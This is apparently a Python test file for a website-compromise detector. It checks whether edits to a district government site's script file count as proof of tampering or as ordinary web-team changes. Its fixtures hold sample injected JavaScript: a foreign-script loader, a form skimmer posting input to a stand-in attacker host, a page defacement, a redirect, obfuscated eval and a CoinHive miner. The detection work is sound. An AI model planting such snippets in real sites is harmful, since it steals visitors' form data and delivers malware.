"""Changed script files: which changes are proof, and which are a web team's."""

import pytest

from sentinel.core.finding import Signal, Strength
from sentinel.core.script_file import SMALL, script_file_signals

URL = "https://district.example.gov.in/js/site.js"
SITE = b"""function menu() { document.getElementById('m').className = 'open'; }
fetch('/api/news').then(function (answer) { return answer.json(); });
"""
LOADER = b"""var s = document.createElement('script'); s.src = 'https://t.paper-tiger.invalid/x.js';
document.head.appendChild(s);
"""
SKIMMER = b"""var d = new FormData(document.forms[0]);
fetch('https://g.paper-tiger.invalid/c', { method: 'POST', body: d });
"""
REWRITE = b"document.body.innerHTML = '<img src=/i/tiger.jpg>';"
LIBRARY = b"".join(b"function part%d(a) { return a + %d; }\n" % (n, n) for n in range(SMALL // 20))
"""A long file that does what libraries do."""
FULL_LIBRARY = LIBRARY + LOADER.replace(b"t.paper-tiger", b"manual.library")


def strong(before: bytes | None, after: bytes) -> set[str]:
    found = script_file_signals(before, after, url=URL)
    return {one.code for one in found if one.strength is Strength.STRONG}


@pytest.mark.parametrize(
    ("added", "code"),
    [
        (LOADER, "script-loads-foreign"),
        (SKIMMER, "script-sends-input"),
        (REWRITE, "page-covered-over"),
        (b"location.replace('https://prize.paper-tiger.invalid/');", "script-redirects-away"),
        (b"eval(function(p,a,c,k,e,d){return p}('x',1,1))", "obfuscated-script"),
        (b"new CoinHive.Anonymous('x').start();", "cryptominer"),
    ],
)
@pytest.mark.parametrize("before", [SITE, LIBRARY, FULL_LIBRARY])
def test_what_attackers_add_to_a_script_file_is_proof(
    before: bytes, added: bytes, code: str
) -> None:
    assert code in strong(before, before + added)
    assert code in strong(before, added + before)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (SITE, SITE + b"function sort() { return 1; }"),
        (SITE, b"function menu() { return false; }"),
        (SITE, FULL_LIBRARY),  # a bundle takes the place of a small file
        (LIBRARY, b"".join(line[::-1] for line in LIBRARY.splitlines()) + LOADER),  # an edition
        (FULL_LIBRARY, FULL_LIBRARY.replace(b"+ 7;", b"+ 8;")),
        (None, LOADER),
    ],
)
def test_a_web_teams_change_of_a_script_file_is_no_proof(
    before: bytes | None, after: bytes
) -> None:
    found: list[Signal] = list(script_file_signals(before, after, url=URL))
    assert [(one.code, one.strength) for one in found] == [("script-file-changed", Strength.WEAK)]


def test_a_small_file_in_the_place_of_a_library_is_read_whole() -> None:
    assert strong(LIBRARY, LOADER) == {"script-loads-foreign"}
